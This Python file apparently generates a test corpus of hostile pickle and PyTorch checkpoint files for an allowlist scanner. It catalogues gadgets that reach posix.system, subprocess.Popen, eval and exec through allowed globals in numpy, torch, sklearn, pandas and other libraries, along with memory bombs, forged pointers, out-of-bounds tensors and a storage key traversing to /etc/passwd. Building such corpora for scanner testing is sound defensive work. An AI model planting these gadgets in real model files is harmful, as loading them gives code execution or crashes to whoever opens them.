"""The blind gadgets that abuse what an allowlist may hold: harmless globals in shapes that no library writes.

Where a gadget names a global that no list would hold as well (posix.system), the point is the place where it stands.
"""
import struct

import asm
import boxes
from asm import Code, build, call, code, named, newobj, newobj_ex, persistent, program, set_item, stack_named, value

CMD = "echo weighlock-corpus"
GONE = "/nonexistent/weighlock"
SYSTEM = named("posix", "system")
GADGET = program(call(SYSTEM, CMD))
ORDERED = named("collections", "OrderedDict")
COUNTER = named("collections", "Counter")
DEFAULT = named("collections", "defaultdict")
ENCODE = named("_codecs", "encode")
BYTEARRAY = named("builtins", "bytearray")
RECONSTRUCT = named("numpy.core.multiarray", "_reconstruct")
NDARRAY = named("numpy", "ndarray")
DTYPE = named("numpy", "dtype")
SCALAR = named("numpy.core.multiarray", "scalar")
REBUILD = named("torch._utils", "_rebuild_tensor_v2")
PARAMETER = named("torch._utils", "_rebuild_parameter")
FROM_TYPE = named("torch._tensor", "_rebuild_from_type_v2")
TENSOR = named("torch", "Tensor")
FLOATS = named("torch", "FloatStorage")
LINEAR = named("torch.nn.modules.linear", "Linear")
MODULE = "torch.nn.modules.module"


def storage(key="0", numel=2, cls=FLOATS, location="cpu"):
    return persistent(("storage", cls, key, location, numel))


def tensor(size=(2,), stride=(1,), offset=0, hooks=None, held=None):
    return call(REBUILD, storage() if held is None else held, offset, size, stride, False, call(ORDERED) if hooks is None else hooks)


def dtype_state(*state):
    return build(call(DTYPE, "V8", False, True), state)


def array(state, subtype=NDARRAY):
    return build(call(RECONSTRUCT, subtype, (0,), b"b"), state)


OBJECTS = build(call(DTYPE, "O8", False, True), (3, "|", None, None, None, -1, -1, 63))
FLOAT8 = build(call(DTYPE, "f8", False, True), (3, "<", None, None, None, -1, -1, 0))
FLAGLESS = dtype_state(3, "|", None, ("a",), {"a": (OBJECTS, 0)}, 8, 1, 0)
POINTERS = struct.pack("<Q", 0x4141414141414141)


def module_of(name, state, extra=()):
    """A torch module as pickle writes one: NEWOBJ and a dictionary."""
    full = {"training": False, "_parameters": call(ORDERED), "_buffers": call(ORDERED), "_modules": call(ORDERED)}
    return build(newobj(named(*name)), {**full, **state, **dict(extra)})


def hooks(function):
    return set_item(call(ORDERED), 0, function)


COLLECTIONS = [
    ("defaultdict-system.pkl", program(set_item(call(DEFAULT, SYSTEM), "a", 1)), "every missing key is a call"),
    ("defaultdict-getattr.pkl", program(call(DEFAULT, named("builtins", "getattr"))), "a factory that resolves"),
    ("defaultdict-partial.pkl", program(call(DEFAULT, call(named("functools", "partial"), SYSTEM, CMD))), "a factory with its arguments"),
    ("defaultdict-eval-in-zip.pt", boxes.torch_zip(program(call(DEFAULT, named("builtins", "eval")))), "a factory in a checkpoint"),
    ("defaultdict-newobj.pkl", program(build(newobj(DEFAULT), (None, {"default_factory": SYSTEM}))), "the factory by the slots half of a state"),
    ("defaultdict-dict-state.pkl", program(build(call(DEFAULT), {"default_factory": SYSTEM})), "the factory by a dictionary's state"),
    ("defaultdict-breakpoint.pkl", program(call(DEFAULT, named("builtins", "breakpoint"))), "a factory that runs what the environment names"),
    ("ordereddict-of-call.pkl", program(call(ORDERED, [["a", call(SYSTEM, CMD)]])), "the value is a call"),
    ("ordereddict-init-subclass.pkl", program(build(newobj(ORDERED), (None, {"__class__": named("argparse", "Namespace")}))), "a state that changes the class"),
    ("ordereddict-getitem.pkl", program(build(newobj(ORDERED), {"__missing__": SYSTEM})), "a state that plants a method"),
    ("counter-missing.pkl", program(build(call(COUNTER, {"a": 1}), {"__missing__": SYSTEM})), "Counter with a method of its own"),
    ("counter-of-map.pkl", program(call(COUNTER, call(named("builtins", "map"), SYSTEM, [CMD]))), "Counter reads a map"),
    ("counter-on-class.pkl", program(build(COUNTER, (None, {"__init__": ORDERED}))), "allowed globals alone: a class's method is replaced"),
    ("ordereddict-as-hooks.pkl", program(tensor(hooks=hooks(SYSTEM))), "a tensor's backward hooks call"),
    ("bytearray-bomb.pkl", program(call(BYTEARRAY, 1 << 40)), "one number, a terabyte of memory"),
    ("bytearray-newobj-bomb.pkl", program(build(newobj(BYTEARRAY, 1 << 40), None)), "the same by NEWOBJ"),
    ("bytes-bomb.pkl", program(call(named("builtins", "bytes"), 1 << 40)), "a terabyte of zeros"),
    ("set-of-range-bomb.pkl", program(call(named("builtins", "set"), call(named("builtins", "range"), 1 << 40))), "a set of a trillion numbers"),
    ("pow-bomb.pkl", program(call(named("builtins", "pow"), 10, 1 << 40)), "a number without end"),
    ("slice-of-system.pkl", program(call(named("builtins", "slice"), SYSTEM, 1, 1)), "a function where a number should be"),
    ("complex-from-object.pkl", program(call(named("builtins", "complex"), build(newobj(named("argparse", "Namespace")), {"__complex__": SYSTEM}))), "a conversion that calls"),
    ("encode-codec-name.pkl", program(call(ENCODE, "x", "os.path")), "a codec's name imports a module"),
    ("encode-zlib.pkl", program(call(ENCODE, b"x", "zlib_codec")), "a codec that is not a text's"),
    ("encode-hex-obfuscation.pkl", program(call(named("builtins", "eval"), call(ENCODE, "1+1", "latin1"))), "eval of encoded text"),
    ("encode-errors.pkl", program(call(ENCODE, "\u20ac", "ascii", "namereplace")), "an error handler by name"),
    ("encode-rot13.pkl", program(call(ENCODE, "cbfvk", "rot13")), "a text hidden by a codec"),
    ("encode-idna-bomb.pkl", program(call(ENCODE, "a" * 9000, "idna")), "a slow codec"),
    ("register-codec.pkl", program(call(named("_codecs", "register"), SYSTEM)), "a codec search function that calls"),
    ("register-error.pkl", program(call(named("_codecs", "register_error"), "x", SYSTEM)), "an error handler that calls"),
]

COPYREG = [
    ("reconstructor-popen.pkl", program(call(named("copyreg", "_reconstructor"), named("subprocess", "Popen"), named("builtins", "object"), None)), "protocol 0's way to any object"),
    ("reconstructor-base-system.pkl", program(call(named("copyreg", "_reconstructor"), ORDERED, named("subprocess", "Popen"), ["true"])), "the base's __init__ is called"),
    ("reconstructor-bytearray.pkl", program(call(named("copyreg", "_reconstructor"), BYTEARRAY, BYTEARRAY, 1 << 40)), "a terabyte by the base"),
    ("reconstructor-p0.pkl", program(asm.old_call("copy_reg", "_reconstructor", named("subprocess", "Popen"), named("__builtin__", "object"), None), 0), "the same under its Python 2 name"),
    ("reconstructor-type.pkl", program(call(named("copyreg", "_reconstructor"), named("builtins", "type"), named("builtins", "type"), "X")), "a class by its base"),
    ("newobj-function.pkl", program(call(named("copyreg", "__newobj__"), named("subprocess", "Popen"), ["true"])), "NEWOBJ by a function"),
    ("newobj-ex-function.pkl", program(call(named("copyreg", "__newobj_ex__"), named("subprocess", "Popen"), (["true"],), {"shell": False})), "NEWOBJ_EX by a function"),
    ("copyreg-pickle-complex.pkl", program(call(named("copyreg", "pickle_complex"), build(newobj(named("argparse", "Namespace")), {"real": 1, "imag": 2}))), "reads attributes of any object"),
]

NUMPY = [
    ("reconstruct-odd-subclass.npy.pkl", program(array((1, (1,), FLOAT8, False, b"\0" * 8), named("subprocess", "Popen"))), "an array of an odd class"),
    ("reconstruct-memmap.pkl", program(newobj(named("numpy", "memmap"), GONE, "uint8", "w+")), "NEWOBJ of memmap opens a file for writing"),
    ("reconstruct-memmap-ex.pkl", program(newobj_ex(named("numpy.core.memmap", "memmap"), (GONE,), {"mode": "r"}), 4), "NEWOBJ_EX of memmap opens a file"),
    ("reconstruct-bomb.pkl", program(call(RECONSTRUCT, NDARRAY, (1 << 40,), b"b")), "a terabyte by its shape"),
    ("ndarray-bomb.pkl", program(call(NDARRAY, (1 << 40,))), "a terabyte by the constructor"),
    ("ndarray-newobj-strides.pkl", program(newobj(NDARRAY, (1 << 20,), "u1", b"x" * 8, 0, (0,))), "strides over a foreign buffer"),
    ("dtype-flags-lie.pkl", program(array((1, (1,), FLAGLESS, False, POINTERS))), "allowed globals alone: a type of objects whose flags deny it, then raw pointers"),
    ("dtype-flags-lie-scalar.pkl", program(call(SCALAR, FLAGLESS, POINTERS)), "the same by a scalar"),
    ("dtype-flags-lie-p4.pkl", program(array((1, (1,), dtype_state(3, "|", None, ("a", "b"), {"a": (FLOAT8, 0), "b": (OBJECTS, 8)}, 16, 1, 0), False, POINTERS * 2)), 4), "the same, one field of several"),
    ("dtype-offset-outside.pkl", program(array((1, (1,), dtype_state(3, "|", None, ("a",), {"a": (FLOAT8, 4096)}, 8, 1, 16), False, b"\0" * 8))), "a field that lies outside its type"),
    ("dtype-offset-negative.pkl", program(array((1, (1,), dtype_state(3, "|", None, ("a",), {"a": (FLOAT8, -4096)}, 8, 1, 16), False, b"\0" * 8))), "a field that lies before its type"),
    ("dtype-itemsize-lie.pkl", program(array((1, (1,), build(call(DTYPE, "f8", False, True), (3, "<", None, None, None, 1 << 20, 1, 0)), False, b"\0" * 8))), "a type's size changed by its state"),
    ("dtype-metadata-call.pkl", program(build(call(DTYPE, "f8", False, True), (4, "<", None, None, None, -1, -1, 0, {"x": SYSTEM}))), "metadata that holds a function"),
    ("dtype-align-object.pkl", program(call(DTYPE, build(newobj(named("argparse", "Namespace")), {"dtype": "f8"}), False, True)), "a type from any object's attribute"),
    ("object-array-of-calls.pkl", program(array((1, (1,), OBJECTS, False, [call(SYSTEM, CMD)]))), "the item of an object array is a call"),
    ("object-array-raw.pkl", program(array((1, (1,), OBJECTS, False, POINTERS))), "raw pointers as objects"),
    ("object-array-nested.pkl", program(array((1, (1,), OBJECTS, False, [call(named("pickle", "loads"), GADGET)]))), "the item of an object array is a pickle"),
    ("scalar-object.pkl", program(call(SCALAR, OBJECTS, SYSTEM)), "a scalar that is a function"),
    ("scalar-object-bytes.pkl", program(call(SCALAR, OBJECTS, POINTERS)), "raw pointers as a scalar"),
    ("frombuffer-object.pkl", program(call(named("numpy.core.numeric", "_frombuffer"), code(b"\x96", struct.pack("<Q", 8), POINTERS), OBJECTS, (1,), "C"), 5), "raw pointers by the buffer of protocol 5"),
    ("frombuffer-dtype-lie.pkl", program(call(named("numpy._core.numeric", "_frombuffer"), code(b"\x96", struct.pack("<Q", 8), POINTERS), FLAGLESS, (1,), "C"), 5), "a lying type by the buffer of protocol 5"),
    ("generator-ctor-system.pkl", program(call(named("numpy.random._pickle", "__generator_ctor"), CMD, SYSTEM)), "calls its second argument with its first"),
    ("generator-ctor-bytearray.pkl", program(call(named("numpy.random._pickle", "__generator_ctor"), 1 << 40, BYTEARRAY)), "allowed globals alone: calls bytearray with a number"),
    ("bit-generator-ctor-class.pkl", program(call(named("numpy.random._pickle", "__bit_generator_ctor"), named("http.server", "HTTPServer"))), "calls any class"),
    ("randomstate-ctor-callable.pkl", program(call(named("numpy.random._pickle", "__randomstate_ctor"), "MT19937", SYSTEM)), "calls its second argument"),
    ("random-generator-object.pkl", program(call(named("numpy.random", "Generator"), build(newobj(named("argparse", "Namespace")), {"capsule": 1, "lock": 2}))), "a generator over any object's capsule"),
    ("ma-reconstruct-system.pkl", program(call(named("numpy.ma.core", "_mareconstruct"), SYSTEM, NDARRAY, (0,), "b")), "a masked array of an odd class"),
    ("recarray-callable.pkl", program(build(array((1, (1,), FLOAT8, False, b"\0" * 8), named("numpy", "recarray")), {"__array_finalize__": SYSTEM})), "an array's second state plants a method"),
    ("ufunc-reconstruct.pkl", program(call(named("numpy.core", "_ufunc_reconstruct"), "os", "system")), "resolves any name of any module"),
    ("convert-to-pyarray.pkl", program(call(named("numpy.core._multiarray_umath", "_ufunc_reconstruct"), "os", "system")), "resolves any name of any module"),
    ("datetime-data.pkl", program(call(named("numpy.core._internal", "_convert_to_stringfn"), SYSTEM)), "a numpy function that no array needs"),
]

TORCH = [
    ("from-type-system.pt", boxes.torch_zip(program(call(FROM_TYPE, SYSTEM, TENSOR, (CMD,), {}))), "calls its first argument"),
    ("from-type-bytearray.pt", boxes.torch_zip(program(call(FROM_TYPE, BYTEARRAY, BYTEARRAY, (1 << 40,), {}))), "allowed globals alone: calls bytearray with a number"),
    ("from-type-state.pt", boxes.torch_zip(program(call(FROM_TYPE, REBUILD, TENSOR, (storage(), 0, (2,), (1,), False, call(ORDERED)), {"__torch_function__": SYSTEM}))), "the state plants a method on a tensor"),
    ("from-type-slots.pt", boxes.torch_zip(program(call(FROM_TYPE, REBUILD, TENSOR, (storage(), 0, (2,), (1,), False, call(ORDERED)), ({}, {"__class__": ORDERED})))), "the slots half changes a tensor's class"),
    ("from-type-type.pt", boxes.torch_zip(program(call(FROM_TYPE, REBUILD, named("subprocess", "Popen"), (storage(), 0, (2,), (1,), False, call(ORDERED)), {}))), "an odd class for a tensor"),
    ("wrapper-subclass.pt", boxes.torch_zip(program(call(named("torch._utils", "_rebuild_wrapper_subclass"), named("subprocess", "Popen"), named("torch", "float32"), (2,), (1,), 0, named("torch", "strided"), "cpu", False))), "a wrapper of an odd class"),
    ("parameter-of-call.pt", boxes.torch_zip(program(call(PARAMETER, call(SYSTEM, CMD), True, call(ORDERED)))), "a parameter whose data is a call"),
    ("parameter-state.pt", boxes.torch_zip(program(call(named("torch._utils", "_rebuild_parameter_with_state"), tensor(), True, call(ORDERED), ({}, {"__class__": named("argparse", "Namespace")})))), "a parameter whose state changes its class"),
    ("parameter-state-hook.pt", boxes.torch_zip(program(call(named("torch._utils", "_rebuild_parameter_with_state"), tensor(), True, call(ORDERED), {"grad_fn": SYSTEM, "__torch_function__": SYSTEM}))), "a parameter whose state plants a method"),
    ("tensor-hooks.pt", boxes.torch_zip(program(tensor(hooks=hooks(SYSTEM)))), "backward hooks that call"),
    ("tensor-hooks-eval.pt", boxes.torch_zip(program(value({"w": tensor(hooks=hooks(named("builtins", "eval")))}))), "backward hooks that evaluate"),
    ("tensor-of-call.pt", boxes.torch_zip(program(tensor(held=call(SYSTEM, CMD)))), "a call in place of the storage"),
    ("tensor-outside-storage.pt", boxes.torch_zip(program(tensor(size=(1 << 30,)))), "a tensor far larger than its storage"),
    ("tensor-negative-offset.pt", boxes.torch_zip(program(tensor(offset=-4096))), "a tensor before its storage"),
    ("tensor-negative-stride.pt", boxes.torch_zip(program(tensor(stride=(-4096,)))), "a tensor that runs backwards out of its storage"),
    ("storage-larger-than-file.pt", boxes.torch_zip(program(tensor(held=storage(numel=1 << 20)))), "a storage that says more elements than its member has (CVE-2026-24747)"),
    ("setitem-on-tensor.pt", boxes.torch_zip(program(set_item(tensor(), 0, 1.0))), "allowed globals alone: SETITEM on a tensor (CVE-2026-24747)"),
    ("setitem-on-list.pt", boxes.torch_zip(program(set_item(value([1, 2]), 1 << 20, 1.0))), "SETITEM on a list (CVE-2026-24747)"),
    ("setitems-on-storage.pt", boxes.torch_zip(program(code(storage(), b"(", value(1 << 40), value(1.0), b"u"))), "SETITEMS on a storage (CVE-2026-24747)"),
    ("append-on-tensor.pt", boxes.torch_zip(program(code(tensor(), value(1), b"a"))), "APPEND on a tensor"),
    ("build-on-tensor.pt", boxes.torch_zip(program(build(tensor(), (None, {"data": SYSTEM})))), "BUILD on a tensor sets its data"),
    ("build-on-tensor-setstate.pt", boxes.torch_zip(program(build(newobj(TENSOR), (storage(), 1 << 40, (2,), (1,))))), "a tensor's own __setstate__, far outside"),
    ("storage-class-callable.pt", boxes.torch_zip(program(tensor(held=storage(cls=SYSTEM)))), "a function as the storage's class"),
    ("storage-class-dtype-less.pt", boxes.torch_zip(program(tensor(held=storage(cls=named("subprocess", "Popen"))))), "an odd class as the storage's class"),
    ("storage-key-traversal.pt", boxes.torch_zip(program(tensor(held=storage(key="../../../../etc/passwd")))), "a storage's key that leaves the folder"),
    ("storage-key-data-pkl.pt", boxes.torch_zip(program(tensor(held=storage(key="../data.pkl", numel=1)))), "a storage that is the pickle itself"),
    ("storage-location-callable.pt", boxes.torch_zip(program(tensor(held=storage(location=call(SYSTEM, CMD))))), "a call in place of the location"),
    ("persid-not-storage.pt", boxes.torch_zip(program(persistent(("module", named("builtins", "eval"), GONE, "1")))), "a persistent id of another kind"),
    ("persid-text.pt", boxes.torch_zip(program(code(b"Pos.system\n"))), "a persistent id that is a text"),
    ("storage-direct-call.pt", boxes.torch_zip(program(call(FLOATS, 1 << 40))), "a storage called for, a terabyte"),
    ("storage-from-file.pt", boxes.torch_zip(program(call(stack_named("torch", "FloatStorage.from_file"), GONE, True, 8), 4)), "a storage over a file"),
    ("storage-untyped-shared.pt", boxes.torch_zip(program(call(stack_named("torch", "UntypedStorage._new_shared_filename_cpu"), b"x", b"y", 8), 4)), "a storage over shared memory"),
    ("typed-storage-newobj.pt", boxes.torch_zip(program(build(newobj(named("torch.storage", "TypedStorage")), {"_storage": SYSTEM}))), "a storage whose inside is a function"),
    ("tensor-call.pt", boxes.torch_zip(program(call(TENSOR, 1 << 20, 1 << 20, 1 << 20))), "the class called for its size"),
    ("size-call-map.pt", boxes.torch_zip(program(call(named("torch", "Size"), call(named("builtins", "map"), SYSTEM, [CMD])))), "torch.Size reads a map"),
    ("device-odd.pt", boxes.torch_zip(program(call(named("torch", "device"), call(SYSTEM, CMD)))), "a call in place of the device"),
    ("sparse-layout-call.pt", boxes.torch_zip(program(call(named("torch._utils", "_rebuild_sparse_tensor"), call(SYSTEM, CMD), (tensor(), tensor(), (2,))))), "a call in place of the layout"),
    ("qtensor-odd.pt", boxes.torch_zip(program(call(named("torch._utils", "_rebuild_qtensor"), storage(), 0, (2,), (1,), (call(SYSTEM, CMD), 1.0, 0), False, call(ORDERED)))), "a call in place of the quantizer"),
    ("device-tensor-from-numpy.pt", boxes.torch_zip(program(call(named("torch._utils", "_rebuild_device_tensor_from_numpy"), call(named("numpy", "load"), GONE), None, "cpu", False))), "an array that a loader brings"),
    ("get-layout-setattr.pt", boxes.torch_zip(program(build(LINEAR, (None, {"forward": named("torch", "relu")})))), "BUILD on the class itself replaces forward"),
    ("linear-forward.pt", boxes.torch_zip(program(module_of(("torch.nn.modules.linear", "Linear"), {"forward": SYSTEM}))), "a module whose forward is a function of ours"),
    ("linear-forward-hooks.pt", boxes.torch_zip(program(module_of(("torch.nn.modules.linear", "Linear"), {"_forward_hooks": hooks(SYSTEM)}))), "forward hooks"),
    ("linear-forward-pre-hooks.pt", boxes.torch_zip(program(module_of(("torch.nn.modules.linear", "Linear"), {"_forward_pre_hooks": hooks(named("builtins", "exec"))}))), "forward pre-hooks"),
    ("linear-backward-hooks.pt", boxes.torch_zip(program(module_of(("torch.nn.modules.linear", "Linear"), {"_backward_hooks": hooks(SYSTEM)}))), "backward hooks"),
    ("linear-state-dict-hooks.pt", boxes.torch_zip(program(module_of(("torch.nn.modules.linear", "Linear"), {"_state_dict_hooks": hooks(SYSTEM)}))), "state dict hooks"),
    ("linear-load-hooks.pt", boxes.torch_zip(program(module_of(("torch.nn.modules.linear", "Linear"), {"_load_state_dict_pre_hooks": hooks(SYSTEM)}))), "load hooks"),
    ("linear-reduce.pt", boxes.torch_zip(program(call(LINEAR, call(SYSTEM, CMD), 2))), "a module called for, with a call as argument"),
    ("sequential-of-system.pt", boxes.torch_zip(program(module_of(("torch.nn.modules.container", "Sequential"), {"_modules": set_item(call(ORDERED), "0", SYSTEM)}))), "a sequence whose step is a function"),
    ("module-global-hook.pt", boxes.torch_zip(program(set_item(named(MODULE, "_global_forward_hooks"), 0, SYSTEM))), "a hook in every module of the process"),
    ("module-setstate-of-graph.pt", boxes.torch_zip(program(build(newobj(named("torch.fx.graph_module", "GraphModule")), {"_code": "import os"}))), "a graph module's code"),
    ("lambda-module-activation.pt", boxes.torch_zip(program(module_of(("torch.nn.modules.transformer", "TransformerEncoderLayer"), {"activation": SYSTEM}))), "an activation that is a function of ours"),
    ("scheduler-lambda.pt", boxes.torch_zip(program(build(newobj(named("torch.optim.lr_scheduler", "LambdaLR")), {"lr_lambdas": [SYSTEM]}))), "a schedule that calls"),
    ("tensor-grad-fn.pt", boxes.torch_zip(program(value({"state": {0: {"step": call(named("operator", "add"), 1, 2)}}}))), "a computation where a number should be"),
]


def known(module, name, state):
    return program(build(newobj(named(module, name)), state))


LIBRARIES = [
    ("sklearn-function-transformer.pkl", known("sklearn.preprocessing._function_transformer", "FunctionTransformer", {"func": SYSTEM}), "a pipeline's step that is a function of ours"),
    ("sklearn-function-transformer-eval.pkl", known("sklearn.preprocessing._function_transformer", "FunctionTransformer", {"func": named("builtins", "eval"), "kw_args": None}), "a step that evaluates its input"),
    ("sklearn-count-vectorizer.pkl", known("sklearn.feature_extraction.text", "CountVectorizer", {"tokenizer": SYSTEM, "preprocessor": None}), "a tokenizer that is a function of ours"),
    ("sklearn-hashing-input.pkl", known("sklearn.feature_extraction.text", "TfidfVectorizer", {"analyzer": named("os", "listdir")}), "an analyzer that is a function of ours"),
    ("sklearn-pipeline-memory.pkl", known("sklearn.pipeline", "Pipeline", {"steps": [], "memory": call(named("joblib.memory", "Memory"), GONE)}), "a cache that unpickles"),
    ("sklearn-metric.pkl", known("sklearn.neighbors._classification", "KNeighborsClassifier", {"metric": SYSTEM}), "a metric that is a function of ours"),
    ("sklearn-kernel.pkl", known("sklearn.svm._classes", "SVC", {"kernel": named("builtins", "exec")}), "a kernel that is a function of ours"),
    ("sklearn-estimator-attribute.pkl", known("sklearn.linear_model._base", "LinearRegression", {"predict": SYSTEM}), "an attribute that hides the method"),
    ("sklearn-setstate-plant.pkl", program(build(build(newobj(named("sklearn.linear_model._base", "LinearRegression")), {"__setstate__": SYSTEM}), CMD)), "a planted method of an allowed class"),
    ("sklearn-scorer.pkl", known("sklearn.model_selection._search", "GridSearchCV", {"scoring": SYSTEM, "estimator": None}), "a score that is a function of ours"),
    ("sklearn-dist-metric-newobj.pkl", program(call(named("sklearn.metrics._dist_metrics", "newObj"), named("subprocess", "Popen"))), "instantiates any class"),
    ("sklearn-tree-newobj.pkl", program(call(named("sklearn.neighbors._kd_tree", "newObj"), named("subprocess", "Popen"))), "instantiates any class"),
    ("sklearn-pyx-unpickle.pkl", program(call(named("sklearn._loss._loss", "__pyx_unpickle_CyHalfBinomialLoss"), named("subprocess", "Popen"), 0, None)), "Cython's way to any class"),
    ("sklearn-fetch.pkl", program(call(named("sklearn.datasets", "fetch_openml"), "x")), "downloads"),
    ("sklearn-bunch-loader.pkl", program(call(named("sklearn.datasets._base", "load_files"), GONE)), "reads files"),
    ("pandas-frame-callable.pkl", known("pandas.core.frame", "DataFrame", {"_mgr": SYSTEM}), "a frame whose inside is a function"),
    ("pandas-unpickle-block.pkl", program(call(named("pandas._libs.internals", "_unpickle_block"), call(SYSTEM, CMD), 0, 2)), "a block whose values are a call"),
    ("pandas-new-index.pkl", program(call(named("pandas.core.indexes.base", "_new_Index"), named("subprocess", "Popen"), {"args": ["true"]})), "calls any class with keywords"),
    ("pandas-new-index-callable.pkl", program(call(named("pandas.core.indexes.base", "_new_Index"), SYSTEM, {"command": CMD})), "calls any function with keywords"),
    ("pandas-offset.pkl", program(call(named("pandas._libs.tslibs.offsets", "_offset_map.update"), {}), 4), "a dotted name"),
    ("scipy-interpolate-call.pkl", known("scipy.interpolate._interpolate", "interp1d", {"_call": SYSTEM}), "an interpolation that is a function of ours"),
    ("scipy-stats-parse-args.pkl", known("scipy.stats._distn_infrastructure", "rv_frozen", {"dist": "x", "parse_arg_template": "import os"}), "a text that its state executes"),
    ("scipy-rv-continuous-source.pkl", known("scipy.stats._continuous_distns", "norm_gen", {"_parse_arg_template": "import os\n", "_ctor_param": {}}), "a text that __setstate__ executes"),
    ("xgboost-booster-path.pkl", program(call(named("xgboost.core", "Booster"), {}, (), GONE)), "a model from a path"),
    ("xgboost-objective.pkl", known("xgboost.sklearn", "XGBClassifier", {"objective": SYSTEM}), "an objective that is a function of ours"),
    ("lightgbm-booster-path.pkl", program(call(named("lightgbm.basic", "Booster"), {}, None, GONE)), "a model from a path"),
    ("lightgbm-fobj.pkl", known("lightgbm.sklearn", "LGBMClassifier", {"_fobj": SYSTEM}), "an objective that is a function of ours"),
    ("training-arguments-call.pkl", program(call(named("transformers.training_args", "TrainingArguments"), GONE)), "the constructor called, with a path"),
    ("training-arguments-plugin.pkl", known("transformers.training_args", "TrainingArguments", {"deepspeed_plugin": SYSTEM, "hf_deepspeed_config": call(SYSTEM, CMD)}), "a call in the state"),
    ("tokenizer-from-file.pkl", program(call(stack_named("tokenizers", "Tokenizer.from_file"), GONE), 4), "a file"),
    ("tokenizers-custom.pkl", program(call(stack_named("tokenizers.pre_tokenizers", "PreTokenizer.custom"), SYSTEM), 4), "a step of ours"),
    ("ultralytics-model-path.pkl", program(call(named("ultralytics.nn.tasks", "DetectionModel"), GONE)), "the constructor called, with a file whose names are evaluated"),
    ("ultralytics-callbacks.pkl", known("ultralytics.engine.model", "Model", {"callbacks": {"on_predict_start": [SYSTEM]}}), "a callback that is a function of ours"),
    ("omegaconf-resolver.pkl", program(call(stack_named("omegaconf", "OmegaConf.register_new_resolver"), "x", SYSTEM), 4), "a resolver that is a function of ours"),
    ("namespace-callable.pkl", known("argparse", "Namespace", {"__call__": SYSTEM, "func": SYSTEM}), "a namespace with functions"),
    ("simple-namespace.pkl", program(build(newobj(named("types", "SimpleNamespace")), {"read": SYSTEM})), "an object with functions"),
    ("logging-logger.pkl", program(call(named("logging", "getLogger"), "x")), "a logger; its handlers write files"),
    ("logging-manager.pkl", program(build(named("logging", "root"), {"handlers": [SYSTEM]})), "the state of the process's own logger"),
    ("mock-side-effect.pkl", known("unittest.mock", "NonCallableMock", {"_mock_side_effect": SYSTEM}), "a mock that calls"),
    ("datetime-tzinfo-call.pkl", program(call(named("datetime", "datetime"), b"\x07\xe8\1\1\0\0\0\0\0\0", call(SYSTEM, CMD))), "a time zone that is a call"),
    ("datetime-timezone-object.pkl", program(call(named("datetime", "timezone"), call(SYSTEM, CMD))), "an offset that is a call"),
    ("zoneinfo-path.pkl", program(call(stack_named("zoneinfo", "ZoneInfo.from_file"), call(named("io", "open"), GONE)), 4), "a zone from a file"),
    ("uuid-state-call.pkl", known("uuid", "UUID", {"int": call(SYSTEM, CMD)}), "a call in place of the number"),
    ("decimal-context.pkl", program(call(named("decimal", "setcontext"), call(named("decimal", "Context")))), "changes the process's arithmetic"),
    ("fraction-of-call.pkl", program(call(named("fractions", "Fraction"), call(SYSTEM, CMD))), "a call in place of the number"),
    ("pathlib-of-call.pkl", program(call(named("pathlib", "PosixPath"), "/", call(SYSTEM, CMD))), "a call in place of a part"),
    ("pathlib-write.pkl", program(call(call(named("operator", "methodcaller"), "write_text", "x"), call(named("pathlib", "PosixPath"), GONE))), "a path that is written to"),
    ("re-compile-bomb.pkl", program(call(named("re", "_compile"), "(a+)+$", 32)), "an expression whose match does not end"),
    ("re-compile-nested.pkl", program(call(named("re", "compile"), "(" * 3000 + ")" * 3000)), "an expression nested without end"),
    ("enum-functional.pkl", program(call(named("enum", "Enum"), "X", "a b")), "a class made by calling Enum"),
    ("enum-getattr.pkl", program(call(named("builtins", "getattr"), named("transformers.trainer_utils", "IntervalStrategy"), "__init__")), "getattr beyond a member"),
    ("multiprocessing-autoproxy.pkl", program(call(named("multiprocessing.managers", "RebuildProxy"), named("multiprocessing.managers", "AutoProxy"), call(named("multiprocessing.managers", "Token"), "x", ("127.0.0.1", 9), "y"), "pickle", {})), "connects, then unpickles what comes"),
    ("multiprocessing-queue-state.pkl", program(build(newobj(named("multiprocessing.queues", "Queue")), (None, None, None, None, None, None, None, None))), "a queue over foreign file descriptors"),
    ("multiprocessing-spawn-prepare.pkl", program(call(named("multiprocessing.spawn", "prepare"), {"init_main_from_path": GONE})), "runs a file as the main module"),
    ("itertools-chain-of-map.pkl", program(build(newobj(named("itertools", "chain")), (call(named("builtins", "map"), SYSTEM, [CMD]),))), "an iterator over calls"),
    ("deque-of-map.pkl", program(call(named("collections", "deque"), call(named("builtins", "map"), SYSTEM, [CMD]))), "a queue filled by calls"),
    ("keras-unpickle-model.pkl", program(call(stack_named("keras.src.saving.keras_saveable", "KerasSaveable._unpickle_model"), b"PK"), 4), "a Keras model in a pickle"),
    ("skops-card.pkl", program(call(named("skops.card", "Card"), None)), "a card, which no weights need"),
    ("jax-tree-callable.pkl", program(call(named("jax.tree_util", "Partial"), SYSTEM, CMD)), "a partial by another name"),
    ("flax-core-call.pkl", program(call(named("flax.core.frozen_dict", "FrozenDict"), call(SYSTEM, CMD))), "a call in place of the parameters"),
    ("persid-plain.pkl", program(persistent(("storage", SYSTEM, "0", "cpu", 1))), "a persistent id outside a checkpoint"),
]

ABUSE = [*COLLECTIONS, *COPYREG, *NUMPY, *TORCH, *LIBRARIES]
